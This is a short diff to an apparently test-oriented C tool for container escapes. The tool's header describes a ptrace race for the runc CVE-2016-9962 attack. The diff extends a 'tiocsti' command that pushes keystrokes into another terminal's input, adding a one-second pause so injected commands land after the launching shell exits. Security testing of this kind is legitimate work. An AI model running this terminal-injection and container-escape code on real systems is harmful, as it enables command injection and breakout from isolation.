@@ -15,7 +15,8 @@
  *   ptrace-race LOG SECONDS    the runc CVE-2016-9962 attack: seize every new pid of the namespace
  *                              as it appears, and record what each caught process holds (see below);
  *                              ends early once LOG.stop exists
- *   tiocsti FD TEXT            push TEXT into the input of the terminal on FD (TIOCSTI), as typed
+ *   tiocsti FD TEXT            push TEXT into the input of the terminal on FD (TIOCSTI), as typed;
+ *                              '~' is Enter, '|' waits a second (the shell that ran it may exit)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -250,6 +251,7 @@ int main(int argc, char **argv) {
     if (!strcmp(c, "tiocsti") && argc == 4) {
         int fd = atoi(argv[2]);
         for (const char *p = argv[3]; *p; p++) {
+            if (*p == '|') { sleep_ms(1000); continue; }
             char ch = *p == '~' ? '\r' : *p; /* ~ stands for Enter */
             if (ioctl(fd, TIOCSTI, &ch) < 0) return result(-1);
         }
